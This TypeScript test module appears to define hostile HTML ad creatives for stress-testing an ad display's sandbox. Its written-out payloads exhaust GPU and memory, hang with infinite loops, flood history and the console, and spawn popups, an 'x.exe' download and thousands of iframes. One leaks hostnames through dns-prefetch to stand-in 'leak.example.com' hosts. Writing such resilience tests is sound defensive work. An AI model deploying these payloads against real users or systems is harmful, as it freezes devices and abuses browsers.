import type { Attack } from '../attack';
import { css } from '../colours';
import { adAt } from '../good-ads';

const GREEN = `background:${css('hostile')}`;
const page = (script: string, body = '') =>
  `<!doctype html><html style="${GREEN}"><body style="margin:0;${GREEN}">${body}<script>${script}</script></body></html>`;

/** HTML creatives; each is shown for two seconds at a time, among good ads. */
const PAGES: ReadonlyArray<{ name: string; row?: number; seconds: number; html: string }> = [
  {
    name: 'a page of 400 animated full-screen layers with `backdrop-filter` and `mix-blend-mode`',
    row: 2,
    seconds: 45,
    html: `<!doctype html><html style="${GREEN}"><style>@keyframes a{to{transform:rotate(1turn)}}i{position:fixed;inset:0;backdrop-filter:blur(9px) invert(.1);mix-blend-mode:difference;animation:a 1s infinite linear;background:rgb(9 9 9/.1)}</style><body><script>document.body.innerHTML='<i></i>'.repeat(400)</script></body></html>`,
  },
  {
    name: 'a page of filters, shadows and canvases that never rest',
    row: 2,
    seconds: 25,
    html: page(
      `for (let i = 0; i < 12; i++) { const c = document.createElement('canvas'); c.width = 4096; c.height = 4096; c.style = 'position:fixed;inset:0;filter:blur(40px) drop-shadow(0 0 40px red);opacity:.02'; document.body.append(c); }
       const draw = () => { for (const c of document.querySelectorAll('canvas')) c.getContext('2d').fillRect(Math.random() * 4096, 0, 900, 4096); requestAnimationFrame(draw); }; draw();`,
    ),
  },
  { name: 'a page that never stops', row: 2, seconds: 15, html: page('for (;;);') },
  {
    name: 'a page that stops answering once it is shown',
    row: 2,
    seconds: 20,
    html: page('setTimeout(() => { for (;;); }, 1500)'),
  },
  {
    name: 'a page that eats memory',
    seconds: 25,
    html: page(
      `const all = []; setInterval(() => { for (let i = 0; i < 4; i++) all.push(new Uint8Array(8 << 20).fill(1)); }, 10)`,
    ),
  },
  {
    name: 'a page that floods main with messages',
    seconds: 15,
    html: page(
      `setInterval(() => { for (let i = 0; i < 500; i++) { console.log('x'.repeat(500)); document.title = i; history.replaceState(i, '', '#' + i); } }, 1)`,
    ),
  },
  {
    name: 'a page that opens windows, dialogs, downloads and frames, and wants everything',
    seconds: 15,
    html: page(
      `const tries = [() => alert('x'), () => print(), () => open('about:blank'), () => { location = 'https://example.com/' }, () => document.documentElement.requestFullscreen(),
         () => navigator.geolocation.getCurrentPosition(() => {}), () => { const a = document.createElement('a'); a.download = 'x.exe'; a.href = 'data:,x'; document.body.append(a); a.click(); },
         () => { const f = document.createElement('iframe'); f.srcdoc = '<body style="background:${css('forbidden')}">'; f.style = 'width:1px;height:1px'; document.body.append(f); }, () => new WebSocket('ws://127.0.0.1:1'), () => { top.location = 'about:blank' }, () => navigator.usb.requestDevice({ filters: [] })];
       setInterval(() => { for (const one of tries) try { one(); } catch {} }, 200)`,
    ),
  },
  {
    name: 'a page without network that names hosts (`dns-prefetch`, `preconnect`, made by script)',
    row: 16,
    seconds: 8,
    html: page(
      `setInterval(() => { for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'preload']) { const l = document.createElement('link'); l.rel = rel; l.as = 'image'; l.href = 'https://' + Math.random().toString(36).slice(2) + '.leak.example.com/'; document.head.append(l); } new Image().src = 'https://' + Math.random() + '.leak.example.com/'; }, 50)`,
      '<link rel="dns-prefetch" href="//first.leak.example.com">',
    ),
  },
  {
    name: 'a page of ten thousand frames',
    seconds: 20,
    html: page(
      `let n = 0; setInterval(() => { for (let i = 0; i < 50 && n < 10000; i++, n++) { const f = document.createElement('iframe'); f.srcdoc = 'x'; f.style = 'width:1px;height:1px;border:0'; document.body.append(f); } }, 10)`,
    ),
  },
];

export const PAGE_ATTACKS = PAGES.map(
  ({ html, ...page }): Attack => ({
    ...page,
    oddPictures: true,
    begin({ service, serve, file, once }) {
      const id = `${once}-page`;
      serve([adAt(service.origin, id, file(`${id}.html`, html, 'text/html'), 'text/html', 2)]);
    },
  }),
);
